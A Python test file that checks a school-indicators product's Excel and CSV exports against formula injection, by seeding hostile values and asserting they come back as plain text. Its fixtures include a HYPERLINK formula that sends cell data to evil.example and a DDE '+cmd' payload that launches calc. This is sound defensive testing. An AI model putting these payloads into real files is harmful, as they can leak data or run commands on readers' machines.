"""Every spreadsheet and CSV the product writes keeps hostile text as text (no formula injection).

Each writer gets the same hostile texts in every user-written field it carries (goal titles and
notes, institution names and ids, dialogue notes, file names and headers, audit entries); the
files are read back with openpyxl or the csv module: no cell is a formula, and the text is
intact (in a CSV after the apostrophe that marks it as text).
"""

from __future__ import annotations

import csv
import io

import openpyxl
import pandas as pd
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import reports
from access import auditlog
from core import audit, database, safe
from core.viewer import ADMINISTRATION
from dashboards import goal_sheet, importing
from dialogue import add_note
from indicators import goals as goal_store
from indicators.__main__ import main as indicators_main
from loaders import ImportRejected, import_files
from tests.fixtures_files import write_csv

HOSTILE = {
    "hyperlink": '=HYPERLINK("http://evil.example/?"&A1;"Klik")',
    "plus": "+cmd|' /C calc'!A0",
    "minus": "-1+1",
    "at": "@SUM(A1:A9)",
    "tab": "\t=1+1",
    "cr": "\r=2+2",
}
SCHOOL = "999001"


def xlsx_values(data: bytes) -> list:
    """Every cell value of a workbook; fails if any cell is a formula."""
    wb = openpyxl.load_workbook(io.BytesIO(data))
    values = []
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", f"{ws.title}!{c.coordinate} is a formula: {c.value!r}"
                values.append(c.value)
    return values


def csv_fields(data: bytes, delimiter: str) -> list[str]:
    text = data.decode("utf-8-sig")
    return [field for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for field in row]


def assert_csv_safe(fields: list[str], expected: list[str]) -> None:
    """No field would run as a formula, and each expected text is there after its text mark."""
    for field in fields:
        assert not safe.formula_like(field), f"formula-like CSV field {field!r}"
    for text in expected:
        assert "'" + text in fields, f"{text!r} is not in the CSV as text"


@pytest.fixture
def hostile_db(sample_db):
    """The sample with hostile text in an institution's name, a goal's title and note, and the dialogue notes."""
    with database.write(sample_db) as con:
        con.execute("UPDATE institutions SET name = ? WHERE institution_id = ?", [HOSTILE["plus"], SCHOOL])
    goal_store.save_goal(
        sample_db,
        {
            "goal_id": "H1",
            "title": HOSTILE["hyperlink"],
            "indicator": "wb_general",
            "scope": "skoler",
            "direction": ">=",
            "target": "3,8",
            "target_year": "2024/25",
            "note": HOSTILE["minus"],
        },
        "test",
    )
    for kind in ("assessment", "action"):
        add_note(
            sample_db,
            ADMINISTRATION,
            institution_id=SCHOOL,
            school_year=2024,
            note_kind=kind,
            text=HOSTILE["at"],
            action_owner=HOSTILE["cr"] if kind == "action" else None,
            action_due="2025-06-30" if kind == "action" else None,
            author=HOSTILE["tab"],
        )
    return sample_db


def test_status_report_and_dialogue_sheet(hostile_db):
    with database.read(hostile_db) as con:
        status = reports.status(con, ADMINISTRATION, kommune=999, year=2024, fmt="xlsx")
        dialogue = reports.dialogue(con, ADMINISTRATION, SCHOOL, year=2024, kommune=999, fmt="xlsx")
    values = xlsx_values(status)
    for text in (HOSTILE["plus"], HOSTILE["hyperlink"], HOSTILE["at"], HOSTILE["tab"]):
        assert text in values  # institution name, goal title, assessment, its author
    values = xlsx_values(dialogue)
    # XML reads a carriage return back as a line feed (its line-end rule); the text is otherwise whole.
    for text in (HOSTILE["hyperlink"], HOSTILE["at"], HOSTILE["cr"].replace("\r", "\n")):
        assert text in values  # goal title, notes, the action's owner
    assert f"Kvalitetsdialog 2024/25: {HOSTILE['plus']}" in values


def test_goal_sheet(hostile_db):
    with database.read(hostile_db) as con:
        definitions = goal_store.current_goals(con, ADMINISTRATION)
    values = xlsx_values(goal_sheet.to_xlsx(definitions))
    assert HOSTILE["hyperlink"] in values and HOSTILE["minus"] in values  # the title and the note, as text


def test_rejected_rows(sample_db, tmp_path):
    name = HOSTILE["at"] + ".csv"
    bad = write_csv(
        tmp_path / "trivsel.csv",
        [
            ["skoleår", "institutionsnummer", "klassetrin", "trivselsindikator", "indikatorsvar", HOSTILE["minus"]],
            ["2025/2026", HOSTILE["plus"], "5", "Social trivsel", "4,1", "20"],
        ],
    )
    with pytest.raises(ImportRejected) as e:
        importing.import_upload(sample_db, ADMINISTRATION, name, bad.read_bytes(), dry_run=True)
    problems, _ = importing.rejected_problems(e.value)
    fields = csv_fields(importing.problems_csv(problems), ";")
    assert_csv_safe(fields, [name])  # the uploaded file's name, in every row
    assert any(HOSTILE["plus"] in f for f in fields)  # the bad cell, quoted in the message
    assert problems and all(p.file == name for p in problems)


def test_audit_log(db):
    for key in ("hyperlink", "tab", "cr"):
        audit.record(db, ADMINISTRATION, "download", HOSTILE[key], HOSTILE["minus"], who=HOSTILE["at"], origin="app")
    with database.read(db) as con:
        fields = csv_fields(auditlog.to_csv(auditlog.entries(con, ADMINISTRATION)), ";")
    assert_csv_safe(fields, [HOSTILE[k] for k in ("hyperlink", "tab", "cr", "minus", "at")])


def test_indicator_and_goal_exports(sample_db, tmp_path):
    """A daycare's id is the municipality's own text; both exports write it as text, numbers as numbers."""
    own_list = write_csv(
        tmp_path / "liste.csv",
        [["institution_id", "navn", "type", "kommunekode"], [HOSTILE["hyperlink"], "Børnehuset", "dagtilbud", "999"]],
    )
    assessments = write_csv(
        tmp_path / "sprog.csv",
        [
            ["år", "institutions_id", "antal vurderede", "generel indsats", "fokuseret indsats", "særlig indsats"],
            ["2024/25", HOSTILE["hyperlink"], "20", "16", "3", "1"],
        ],
    )
    import_files(sample_db, [own_list, assessments])
    goal_store.save_goal(
        sample_db,
        {
            "goal_id": "-1",
            "title": "Sprog",
            "indicator": "la_share_general",
            "scope": "dagtilbud",
            "direction": ">=",
            "target": "80",
            "target_year": "2024/25",
        },
        "test",
    )
    for command, text_columns in (("export", ["unit_id"]), ("goals", ["goal_id", "unit_id"])):
        out = tmp_path / f"{command}.csv"
        assert indicators_main([command, "--db", str(sample_db), "--out", str(out)]) == 0
        rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))
        texts = [r[c] for r in rows for c in text_columns]
        assert_csv_safe(texts, [HOSTILE["hyperlink"]])
        if command == "export":  # numbers are data, not marked: the exam difference to the reference is negative
            assert any(r["value"].startswith("-") for r in rows if r["indicator"] == "exam_socref_diff")
        else:
            assert "'-1" in texts  # a goal id that starts with a minus


_CELLS = st.one_of(st.none(), st.text(alphabet=',;"\r\n\t =+-@x1.æ€', max_size=6))


@settings(max_examples=300, deadline=None)
@given(
    rows=st.lists(st.tuples(_CELLS, _CELLS, _CELLS), max_size=8),
    sep=st.sampled_from([",", ";"]),
    chunks=st.integers(1, 3),
)
def test_a_frame_of_text_is_written_as_pandas_writes_it(rows, sep, chunks):
    """The export's writer (Arrow, for a frame of text columns, in pieces as ``pd.concat`` leaves them) and
    pandas' writer (any other frame: here the same cells as Python objects) give the same bytes: quoting of the
    separator, quotes and line breaks, missing as empty, the formula mark, CRLF, non-ASCII text."""
    frame = pd.DataFrame(rows, columns=["unit_id", "a,b", 'c"'], dtype=object)
    text = pd.concat(
        [frame.iloc[i::chunks].astype("str") for i in range(chunks)] or [frame.astype("str")], ignore_index=False
    )
    assert all(isinstance(t, pd.StringDtype) for t in text.dtypes)
    expected = safe.csv_bytes(text.astype(object), sep=sep, text_columns=["unit_id"])
    assert safe.csv_bytes(text, sep=sep, text_columns=["unit_id"]) == expected
    # and the pandas path is what Python's csv module reads back as the same cells
    back = list(csv.reader(io.StringIO(expected.decode("utf-8"), newline=""), delimiter=sep))
    assert back[0] == ["unit_id", "a,b", 'c"'] and len(back) == len(text) + 1
